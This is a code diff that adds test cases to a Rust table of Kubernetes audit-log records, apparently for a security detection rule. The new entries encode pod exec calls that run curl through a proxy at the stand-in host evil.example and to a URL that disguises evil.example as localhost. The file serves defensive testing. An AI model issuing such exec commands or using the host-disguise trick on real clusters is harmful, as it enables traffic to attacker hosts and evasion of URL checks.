@@ -190,6 +190,18 @@ const TOLD: &[(&str, &str, Severity, &str)] = &[
         r#""verb":"update","user":{"username":"dana"},"objectRef":{"resource":"validatingwebhookconfigurations","apiGroup":"admissionregistration.k8s.io","name":"v"},"requestObject":{"webhooks":[]}"#,
     ),
     (
+        "a download through a proxy, for itself by its address",
+        "AUD-R29",
+        Severity::Medium,
+        r#""verb":"create","requestURI":"/api/v1/namespaces/shop/pods/web/exec?command=curl&command=-x&command=evil.example%3A8080&command=http%3A%2F%2Flocalhost%2Ft","user":{"username":"dana"},"objectRef":{"resource":"pods","subresource":"exec","namespace":"shop","name":"web"}"#,
+    ),
+    (
+        "or from a host that begins like it",
+        "AUD-R29",
+        Severity::Medium,
+        r#""verb":"create","requestURI":"/api/v1/namespaces/shop/pods/web/exec?command=curl&command=http%3A%2F%2Flocalhost%3A80%40evil.example%2Ft","user":{"username":"dana"},"objectRef":{"resource":"pods","subresource":"exec","namespace":"shop","name":"web"}"#,
+    ),
+    (
         "a kubelet entered on a node whose name misleads",
         "AUD-R36",
         Severity::High,
